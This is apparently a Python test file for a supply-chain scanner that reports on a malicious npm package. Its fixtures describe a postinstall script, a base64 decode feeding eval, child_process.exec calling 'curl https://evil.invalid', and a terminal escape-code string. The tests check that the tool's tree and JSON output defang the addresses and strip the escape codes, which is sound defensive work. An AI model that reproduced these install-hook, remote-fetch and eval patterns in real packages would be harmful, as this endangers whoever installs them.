from __future__ import annotations

import json

from rich.console import Console

from assay.model.dependency import Origin
from assay.model.gap import Gap, GapKind
from assay.model.location import Location
from assay.model.package import PackageRef
from assay.model.policy import Action, Decision
from assay.model.reading import Reading
from assay.model.report import Assessed, Source
from assay.model.source import Behaviour, BehaviourKind, Flow, SourceFile, Trait
from assay.model.verdict import Level, Verdict
from assay.reports.reading_json import reading_json
from assay.reports.reading_tree import MAX_FILES, MAX_LINES, reading_tree

REF = PackageRef("thing", "1.0.0")
ASSESSED = Assessed(REF, Origin.TARGET, Verdict(Level.MALICIOUS, "it is bad"), Decision(Action.BLOCK), (), Source.FRESH)
SOURCE = Behaviour(
    BehaviourKind.DECODE, Location("setup.js", 3, 5), "Buffer.from", "go to https://evil.invalid/x\x1b[31m"
)
SINK = Behaviour(BehaviourKind.DYNAMIC_CODE, Location("setup.js", 9, 1), "eval")
START = Behaviour(BehaviourKind.PROCESS, Location("setup.js", 7, 1), "child_process.exec", "curl https://evil.invalid")
FILE = SourceFile(
    "setup.js",
    1234,
    ("postinstall",),
    (START, SOURCE, SINK),
    (Flow(SOURCE, SINK, ("base64",)),),
    (Trait("hex-names", Location("setup.js", 1), "34 names such as _0x12"),),
)
READING = Reading(
    REF,
    {"postinstall": "node setup.js"},
    (FILE, SourceFile("index.js", 10, ("main",)), SourceFile("old.js", 10)),
    (Gap(GapKind.SOURCE, "big.js", "it is too big"),),
    7,
)


def shown(reading: Reading) -> str:
    console = Console(width=160, no_color=True)
    with console.capture() as capture:
        console.print(reading_tree(ASSESSED, reading))
    return capture.get()


def test_the_tree_leads_from_the_script_to_the_sink() -> None:
    text = shown(READING)
    assert text.splitlines()[0] == "thing@1.0.0  malicious: it is bad"
    places = [text.index(part) for part in ("postinstall: node setup.js", "34 names", "decode:", "base64", "eval")]
    assert places == sorted(places)
    assert "3  decode: Buffer.from = go to hxxps://evil[.]invalid/x" in text
    assert "curl hxxps://evil[.]invalid" in text
    assert "big.js: it is too big" in text
    assert "7 files, 3 read as code" in text
    assert "runs when it is used: 1 file with nothing to tell" in text


def test_nothing_of_a_package_acts_on_the_terminal() -> None:
    assert "\x1b" not in shown(READING)
    assert "https://" not in shown(READING)


def test_a_large_package_is_told_in_few_lines() -> None:
    busy = SourceFile("a.js", 1, ("main",), (START,) * 50)
    text = shown(Reading(REF, {}, tuple(busy for _ in range(100)), (), 100))
    assert len(text.splitlines()) <= MAX_FILES * (MAX_LINES + 2) + 4
    assert "and 80 more files" in text


def test_the_json_has_every_chain_and_no_address_to_click() -> None:
    document = json.loads(reading_json(ASSESSED, READING))
    assert (document["format"], document["format_version"]) == ("assay-inspect", 1)
    assert document["verdict"] == {"level": "malicious", "because": "it is bad"}
    (first, *_) = document["files"]
    (chain,) = first["chains"]
    assert (chain["source"]["line"], chain["steps"], chain["sink"]["kind"]) == (3, ["base64"], "dynamic-code")
    assert first["hidden"][0]["name"] == "hex-names"
    assert "https://" not in json.dumps(document)
